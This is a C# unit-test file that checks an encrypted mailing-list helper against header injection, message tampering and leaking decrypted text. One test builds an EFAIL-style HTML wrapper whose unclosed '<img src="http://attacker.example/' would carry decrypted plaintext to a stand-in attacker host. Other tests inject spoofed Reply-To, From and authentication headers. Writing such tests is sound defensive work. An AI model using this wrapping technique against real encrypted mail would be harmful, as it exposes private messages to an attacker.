using System.Text;
using CryptoList.Helper.Tests.Worlds;

namespace CryptoList.Helper.Tests.Reading;

/// <summary>The opened text never meets anything from outside, and replies go where the author said.</summary>
public sealed class LeakTests : IDisposable
{
    private const string Evil = "evil@attacker.example";
    private readonly Town _town = new();

    public void Dispose() => _town.Dispose();

    [Theory]
    [InlineData("Reply-To: evil@attacker.example\r\n")]
    [InlineData("Subject: evil@attacker.example\r\nSubject: evil@attacker.example\r\n")]
    [InlineData("From: evil@attacker.example\r\n")]
    [InlineData("List-Post: <mailto:evil@attacker.example>\r\n")]
    [InlineData("CryptoList-Status: opened; author=evil@attacker.example\r\n")]
    [InlineData("Cc: evil@attacker.example\r\nDisposition-Notification-To: evil@attacker.example\r\n")]
    [InlineData("Authentication-Results: evil@attacker.example\r\n")]
    public async Task A_field_added_outside_shows_nowhere(string field)
    {
        var (alice, copy) = await CopyAsync();
        var opened = (await alice.RunWithAsync([.. Encoding.ASCII.GetBytes(field), .. copy], "open")).Well().Text;
        Assert.Contains("Secret text", opened);
        Assert.DoesNotContain(Evil, opened);
        Assert.Single(opened.Split("\r\n"), l => l.StartsWith("CryptoList-Status:", StringComparison.OrdinalIgnoreCase));

        var shown = (await alice.RunWithAsync([.. Encoding.ASCII.GetBytes(field), .. copy], "read")).Well().Text;
        Assert.DoesNotContain(Evil, shown);
    }

    [Fact]
    public async Task A_copy_wrapped_in_html_gives_no_text_at_all()
    {
        var (alice, copy) = await CopyAsync();
        var wrapped = $"From: {Evil}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--w\r\n{Encoding.Latin1.GetString(copy)}\r\n--w\r\nContent-Type: text/html\r\n\r\n\">\r\n--w--\r\n";
        foreach (var command in new[] { "open", "read" })
        {
            var run = (await alice.RunWithAsync(Encoding.Latin1.GetBytes(wrapped), command)).With(ExitCode.Refused);
            Assert.DoesNotContain("Secret text", run.Text + run.Error);
            Assert.DoesNotContain(Evil, run.Text + run.Error);
        }
    }

    [Fact]
    public async Task A_third_part_is_a_failure_and_the_original_goes_along_as_octets_only()
    {
        var (alice, copy) = await CopyAsync();
        var text = Encoding.Latin1.GetString(copy);
        var boundary = text[(text.LastIndexOf("\r\n--", StringComparison.Ordinal) + 4)..].Trim().TrimEnd('-');
        var more = text[..text.LastIndexOf($"--{boundary}--", StringComparison.Ordinal)] + $"--{boundary}\r\nContent-Type: text/html\r\n\r\n<b>{Evil}</b>\r\n--{boundary}--\r\n";

        var notice = (await alice.RunWithAsync(Encoding.Latin1.GetBytes(more), "open")).With(ExitCode.Failed).Text;
        Assert.Contains("CryptoList-Status: failed; reason=", notice);
        Assert.Contains("Content-Type: application/octet-stream", notice);
        Assert.DoesNotContain("Secret text", notice);
        Assert.DoesNotContain(Evil, notice);
        var attached = notice.Split("filename=\"unopened-post.bin\"\r\n\r\n")[1].Split("\r\n--")[0];
        Assert.Equal(more, Encoding.Latin1.GetString(Convert.FromBase64String(attached)));
    }

    [Fact]
    public async Task What_the_author_wrote_to_pass_for_the_helpers_own_words_is_taken_out()
    {
        var (alice, copy) = await CopyAsync("Authentication-Results: mx; dkim=pass\nX-Mozilla-Status: 0001\nList-Post: <mailto:other@example.org>\nReply-To: office@example.org\nStatus: RO\n");
        var opened = (await alice.RunWithAsync(copy, "open")).Well().Text;
        var header = opened[..opened.IndexOf("\r\n\r\n", StringComparison.Ordinal)];
        Assert.DoesNotContain("dkim=pass", header);
        Assert.DoesNotContain("X-Mozilla-Status", header);
        Assert.DoesNotContain("other@example.org", header);
        Assert.DoesNotContain("\r\nStatus:", header);
        Assert.DoesNotContain("HP-Outer", header);
        Assert.DoesNotContain("hp=", header);
        Assert.Contains("Reply-To: office@example.org", header);
        Assert.Contains("List-Post: <mailto:team@lists.example.net>", header);
        Assert.Contains("List-Id: \"Team\" <team.lists.example.net>", header);
    }

    [Fact]
    public async Task A_flipped_octet_of_the_body_is_a_notice_that_says_so()
    {
        var (alice, copy) = await CopyAsync();
        var at = Encoding.Latin1.GetString(copy).LastIndexOf("Content-Transfer-Encoding: base64\r\n\r\n", StringComparison.Ordinal) + 60;
        copy[at] = copy[at] == 'A' ? (byte)'B' : (byte)'A';
        var run = (await alice.RunWithAsync(copy, "open")).With(ExitCode.Failed);
        Assert.Contains("body-hash-wrong", run.Text);
        Assert.DoesNotContain("Secret text", run.Text);
    }

    private async Task<(Person Alice, byte[] Copy)> CopyAsync(string? more = null)
    {
        var alice = await _town.OpenAsync();
        var copies = await _town.PostAsync(alice, Town.Message("Plans", "Secret text", more));
        return (alice, copies[alice.Address]);
    }
}
